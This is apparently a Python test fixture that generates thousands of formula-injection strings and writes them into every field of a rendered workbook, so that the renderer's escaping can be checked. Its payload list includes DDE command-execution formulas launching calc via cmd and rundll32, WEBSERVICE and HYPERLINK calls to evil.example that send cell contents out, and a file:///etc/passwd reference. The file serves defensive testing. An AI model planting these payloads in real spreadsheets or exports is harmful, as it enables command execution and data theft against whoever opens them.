"""Texts that somebody might type to make a workbook, a table or a letter do something."""

import random
from datetime import datetime
from itertools import product
from pathlib import Path

from mobility_xl.workbook.blocks import Cell, Column, Entry, Fact, Line, Panel, Paragraph, Sheet, Table, Titled, Words
from mobility_xl.workbook.render import Properties, render
from mobility_xl.workbook.templates import Template

STARTS = (
    *("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", " =", "'=", '"=', "\ufeff=", "\u200b=", "\x00=", "\x0b="),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe66", "{=", "==", "=+", "+-", "\r\n=", "a;=", "a\n=", ""),
)
PAYLOADS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.example/?q="&A1,"Click")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML("http://evil.example","//a")',
    'FILTERXML(WEBSERVICE("http://evil.example"),"//a")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!A1",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "'file:///etc/passwd'#$passwd.A1",
    "[evil.xlsx]Sheet1!A1",
    'INDIRECT("Officials!A1")',
    "MOBILITY_METRIC(1,2)",
    "_xlfn.LAMBDA(_xlpm.x,_xlpm.x)(1)",
    "http://evil.example/",
    "mailto:clerk@evil.example",
    "javascript:alert(1)",
    "<r><t>rich</t></r>",
    "<f>1+1</f>",
    "</t></si><c><f>1+1</f></c>",
    "]]><f>1</f><![CDATA[",
    "{=1+1}",
    "&amp;=1",
    "_x003D_1+1",
    "{value}",
    '"&HYPERLINK("x")&"',
    "\ud83d",
    "\u202e1+1=",
    "2/3",
    "1E5",
    "TRUE",
    "#REF!",
    "Rosa Martínez, \u4f60\u597d \U0001f600",
)
ENDS = ("", " ", "\t", "\r\n", "\n=1+1", ")", '"', "'", "\x07")


def hostile_texts(count: int) -> list[str]:
    """Return so many different texts, always the same ones: every start with every matter, with some end."""
    chance = random.Random(0)  # noqa: S311 - no secret
    pairs = list(product(STARTS, PAYLOADS))
    found: dict[str, None] = dict.fromkeys(f"{start}{payload}" for start, payload in pairs)
    while len(found) < count:
        (start, payload), (_, other) = chance.choice(pairs), chance.choice(pairs)
        found[f"{start}{payload}{chance.choice(ENDS)}{chance.choice(('', other))}{chance.choice(ENDS)}"] = None
    return list(found)[:count]


TEXTS = hostile_texts(5000)


def hostile_workbook(template: Template, path: Path) -> Path:
    """Write a workbook with all hostile texts wherever one can stand."""
    columns = (Column("Said"), Column("Entered", "entry", entry=Entry(prompt="Write here")), Column("Again"))
    said = Table("Said", "What they said", "Texts", columns, [(text, Entry(value=text), text) for text in TEXTS])
    data = Table("Raw", "What they said, raw", "Texts", (Column("text", "data"),), [(text,) for text in TEXTS])
    some = [text for text in TEXTS[:: len(TEXTS) // 60] if "{" not in text]
    lines = [
        Line(
            (
                (0, Cell(text, "cell")),
                (1, Cell(Entry(f"entry_{index}", text), "entry")),
                (2, Cell(Words(text, {}, text), "cell")),
            )
        )
        for index, text in enumerate(some)
    ]
    panels = [
        Panel(
            f"panel {index}",
            Line.of(Titled(text, text), "band"),
            (Fact(Cell(text, "fact_label"), Cell(text, "fact")),),
            (),
        )
        for index, text in enumerate(some)
    ]
    blocks = [Line.of("Texts", "title"), *lines, *(Paragraph(text) for text in some), *panels, said, data]
    about = Properties("=1+1", "=1+1", "=1+1", "&=1+1", "&=1+1", datetime(2025, 1, 1), {"said": "=1+1"})
    sheet = Sheet("Texts", "", "", (60, 20, 20), lambda _: [])
    path.write_bytes(render([sheet], [blocks], template.style, about, values=False))
    return path
